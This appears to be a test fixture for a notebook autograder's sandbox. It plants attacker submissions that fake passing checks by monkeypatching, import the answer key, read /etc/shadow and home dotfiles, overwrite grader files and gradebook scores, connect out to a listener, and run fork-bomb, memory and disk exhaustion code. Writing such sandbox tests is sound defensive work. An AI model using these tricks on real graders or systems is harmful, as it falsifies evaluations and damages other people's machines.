"""Dishonest and hostile submissions, graded in tests/test_autograder.py's first batch.

Each attacker is a submission of notebook 01 (trimmed to the cells grading needs, as the other
planted submissions are) whose solution cells try to earn points without the work, or to harm
the grader: fake checks, the answer key, monkeypatching, reading or writing outside its sandbox,
exhausting processes, memory or disk, a thread that outlives its cell, the network. The batch's
test asserts, for every attacker, its score per grade cell and what its graded notebook shows;
that the honest student (``correct``, graded after the attackers in the same nbgrader run) keeps
full marks; that nothing outside the sandbox changed (the course folder's files, except what
grading itself writes, the repository's package, a canary file in the grader's home, a TCP server
the attackers try to reach); and that no sandboxed process outlives grading.

One batch for both modules' submissions: one nbgrader run, and one test, so that the two xdist
workers never grade it twice.
"""

from __future__ import annotations

import hashlib
import os
import socket
import threading
from pathlib import Path

import nbformat

from fv_exercises.autograding import cell_scores, notebook_path
from fv_exercises.course import ROOT

NAME = "01_task_vectors"
FIND, MEAN = "test_find_task_vector", "test_mean_task_vector"
HONEST = "correct"  # tests/test_autograder.py's correct submission, graded after every attacker

# Wrong on purpose: adds nothing (the plain zero-shot logits) / returns zeros.
WRONG = '''
def find_task_vector(model, icl_prompt, zero_shot_prompt, layer):
    return model(zero_shot_prompt)

def mean_task_vector(model, icl_prompts, zero_shot_prompts, layer):
    return torch.zeros(model.cfg.d_model)
'''

# Every way to fake a pass from inside the kernel, at once (issue 18's first row and more).
FAKES = WRONG + '''
import builtins, sys, types
import fv_exercises.checks.core as core
import fv_exercises.checks.task_vectors as tv

def check_find_task_vector(*args, **kwargs):
    print("find_task_vector matches the reference")
def check_mean_task_vector(*args, **kwargs):
    print("mean_task_vector matches the reference")
tv.check_find_task_vector = check_find_task_vector      # the module too
tv.check_mean_task_vector = check_mean_task_vector
core.compare = lambda *a, **k: 0.0                       # the comparison itself
core.CheckFailure = type("Nothing", (Exception,), {})
torch.allclose = lambda *a, **k: True
builtins.AssertionError = type("Nothing", (Exception,), {})
fake = types.ModuleType("fv_exercises.checks.task_vectors")
fake.check_find_task_vector = check_find_task_vector
fake.check_mean_task_vector = check_mean_task_vector
sys.modules["fv_exercises.checks.task_vectors"] = fake  # swap the module
get_ipython().showtraceback = lambda *a, **k: None      # hide every error (nbgrader PR 1324)
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
print("all good")
'''

# The answer key, imported inside the functions (so the cell itself runs).
ANSWER_KEY = '''
def find_task_vector(model, icl_prompt, zero_shot_prompt, layer):
    from fv_exercises.reference.task_vectors import find_task_vector as ref
    return ref(model, icl_prompt, zero_shot_prompt, layer)

def mean_task_vector(model, icl_prompts, zero_shot_prompts, layer):
    import importlib
    ref = importlib.import_module("fv_exercises.reference.task_vectors")
    return ref.mean_task_vector(model, icl_prompts, zero_shot_prompts, layer)
'''

# Reads and writes everything it can name: filled in with the real paths by _snoop().
SNOOP = WRONG + '''
import glob, os, pathlib, sqlite3
found = []
for target in {reads!r}:
    for path in glob.glob(target, recursive=True)[:50]:
        try:
            found.append(path + ": " + pathlib.Path(path).read_text(errors="replace")[:2000])
        except Exception as exc:
            print("cannot read", path, type(exc).__name__)
print("\\n".join(found) or "read nothing")
for target in {writes!r}:
    try:
        pathlib.Path(target).write_text("pwned")
        print("WROTE", target)
    except Exception as exc:
        print("cannot write", target, type(exc).__name__)
try:
    db = sqlite3.connect({gradebook!r})
    db.execute("UPDATE grade SET auto_score = 99")
    db.commit()
    print("EDITED the gradebook")
except Exception as exc:
    print("cannot edit the gradebook", type(exc).__name__)
'''

# Exhausts what it can: processes, memory, disk, a thread that outlives its cell, the network.
RESOURCES = WRONG + '''
import os, socket, threading, time
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned")
    print("CONNECTED to the grader's machine")
except OSError as exc:
    print("no network:", type(exc).__name__)

def outlive():
    while True:
        for target in {writes!r}:
            try:
                open(target, "w").write("pwned by a thread")
            except Exception:
                pass
        time.sleep(0.05)
threading.Thread(target=outlive, daemon=False).start()  # never ends, keeps the kernel alive
hoard = []
try:
    hoard.append(bytearray(64 << 30))
except MemoryError:
    print("64 GB: MemoryError")
try:
    while True:
        hoard.append(bytearray(256 << 20))
except MemoryError:
    print("memory stopped at", len(hoard) // 4, "GB")
hoard.clear()
for folder in (".", "/tmp", "/dev/shm", "/", "/opt/fv-cache"):
    written = 0
    try:
        for i in range(10_000):
            with open(os.path.join(folder, f"fill{{i}}"), "wb") as f:
                f.write(b"x" * (64 << 20))
            written += 64
    except OSError as exc:
        print("disk", folder, "stopped at", written, "MB:", type(exc).__name__)
    for name in os.listdir(folder):
        if name.startswith("fill"):
            os.remove(os.path.join(folder, name))
children = 0
try:
    for _ in range(100_000):
        pid = os.fork()
        if pid == 0:  # each child sleeps; only the end of the sandbox removes them
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as exc:
    print("fork stopped after", children, "children:", type(exc).__name__)
'''

# Ends the kernel before the grade cells, hoping that a cell that never runs cannot fail.
EXITS = WRONG + '''
import os
os._exit(0)
'''


def _fingerprint(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """``{relative path: sha256}`` of every file under ``folder`` (not under ``skip``)."""
    out = {}
    for path in sorted(folder.rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_file() and not path.is_symlink() and not rel.startswith(skip) \
                and "__pycache__" not in rel and ".pytest_cache" not in rel:
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


class _Listener:
    """A TCP server on the grader's loopback: any connection from a sandbox is an escape."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass

    def close(self):
        self._stop = True
        self.thread.join()
        self.sock.close()


def plant(root: Path) -> tuple[dict[str, str], dict]:
    """The traps of the course ``root`` set (before grading), and each attacker's code.

    Returns ``({student: code of its find_task_vector cell}, traps)``: the caller submits each
    (its mean_task_vector cell emptied) and passes ``traps`` to :func:`collect` after grading."""
    home_canary = Path.home() / f".fv-canary-{os.getpid()}"
    home_canary.write_text("the grader's own file")
    writes = [str(root / "pwned.txt"), str(root / "gradebook.db"),
              str(notebook_path(root, "submitted", HONEST, NAME)),
              str(ROOT / "fv_exercises" / "pwned.py"), str(ROOT / "pwned.txt"),
              str(home_canary)]
    reads = [str(root / "solutions" / "**" / "*.ipynb"), str(ROOT / "solutions" / "**" / "*.ipynb"),
             str(ROOT / "fv_exercises" / "reference" / "*.py"), str(root / "submitted" / "**" / "*.ipynb"),
             str(home_canary), str(Path.home() / ".*"), "/etc/shadow", "/root/*"]
    listener = _Listener()
    attackers = {
        "attack_fakes": FAKES,
        "attack_answer_key": ANSWER_KEY,
        "attack_snoop": SNOOP.format(reads=reads, writes=writes, gradebook=str(root / "gradebook.db")),
        "attack_resources": RESOURCES.format(writes=writes + ["/tmp/pwned-by-a-submission"],
                                             port=listener.port),
        "attack_exits": EXITS,
    }
    return attackers, {"root": root, "home_canary": home_canary, "listener": listener}


def arm(traps: dict) -> None:
    """Fingerprint the grader's files: call when every submission is in place, before grading."""
    traps["before"] = _fingerprints(traps["root"])


#: What grading itself writes in the course folder (not an attacker's doing).
_GRADING_WRITES = ("autograded", "gradebook.db", ".nbgrader.log")


def _fingerprints(root: Path) -> tuple[dict, dict]:
    return _fingerprint(root, _GRADING_WRITES), _fingerprint(ROOT / "fv_exercises")


def collect(traps: dict) -> None:
    """Right after grading: stop the listener, fingerprint again, read and remove the canary."""
    traps["listener"].close()
    traps["after"] = _fingerprints(traps["root"])
    traps["canary"] = traps["home_canary"].read_text()
    traps["home_canary"].unlink()
    traps["connections"] = traps["listener"].connections


def _output_text(root: Path, student: str) -> str:
    nb = nbformat.read(notebook_path(root, "autograded", student, NAME), as_version=4)
    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) + str(o.get("data", ""))
                     for c in nb.cells for o in c.get("outputs", []))


# student -> (find_task_vector points, mean_task_vector points, texts its graded notebook shows)
EXPECTED = {
    "attack_fakes": (0, 0, ["all good", "matches a common mistake: no vector was added"]),
    "attack_answer_key": (0, 0, ["No module named 'fv_exercises.reference"]),
    "attack_snoop": (0, 0, ["read nothing", "cannot write", "cannot edit the gradebook"]),
    "attack_resources": (0, 0, ["fork stopped after", "64 GB: MemoryError", "memory stopped at",
                                "no network:"]),
    "attack_exits": (0, 0, ["the kernel died"]),
}


def failures(attacked: dict, outcomes: dict) -> list[str]:
    """Each attacker's score and graded notebook, the grader's files, canary and listener."""
    root = attacked["root"]
    found = []
    for student, (find, mean, texts) in EXPECTED.items():
        scores = cell_scores(root, NAME, student)
        got = (scores[FIND][0], scores[MEAN][0])
        if got != (find, mean):
            found.append(f"{student} scored {got}, expected {(find, mean)}: {outcomes[student]}")
        shown = _output_text(root, student)
        found += [f"{student}: {t!r} not in its graded notebook" for t in texts if t not in shown]
        # (A write may succeed inside the sandbox's own in-memory /tmp, e.g. when the course
        # lives under /tmp; what counts is the grader's files, asserted below.)
        for leak in ("BEGIN HIDDEN TESTS", "BEGIN SOLUTION", "the grader's own file",
                     "EDITED the gradebook", "CONNECTED"):
            if leak in shown:
                found.append(f"{student}: its graded notebook shows {leak!r}")
    if attacked["before"] != attacked["after"]:
        b, a = attacked["before"], attacked["after"]
        changed = [k for i in (0, 1) for k in set(b[i]) | set(a[i]) if b[i].get(k) != a[i].get(k)]
        found.append(f"files outside the sandbox changed: {changed}")
    if attacked["canary"] != "the grader's own file":
        found.append("the canary in the grader's home was overwritten")
    if attacked["connections"]:
        found.append(f"{attacked['connections']} connection(s) reached the grader's machine")
    for planted in (attacked["root"] / "pwned.txt", ROOT / "pwned.txt",
                    ROOT / "fv_exercises" / "pwned.py"):
        if planted.exists():
            found.append(f"a submission wrote {planted} on the grader's machine")
    if Path("/tmp/pwned-by-a-submission").exists():
        found.append("a submission wrote /tmp/pwned-by-a-submission on the grader's machine")
    return found


def _cmdline(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return ""


def _parent(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1]
    except (OSError, IndexError):
        return "0"


def leftover_processes() -> list[tuple[str, str]]:
    """The fork bomb's children and the outliving thread's kernel are gone after grading: no
    sandboxed kernel (its command line names /run/connection.json) is left without a grading
    process above it (kernels of another test worker's grading, still running, have one)."""
    leftovers = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if "/run/connection.json" not in _cmdline(pid):
            continue
        ancestor, graded_by_someone = pid, False
        while ancestor not in ("0", "1"):
            ancestor = _parent(ancestor)
            graded_by_someone |= "nbgrader" in _cmdline(ancestor)
        if not graded_by_someone:
            leftovers.append((pid, _cmdline(pid)[:120]))
    return leftovers
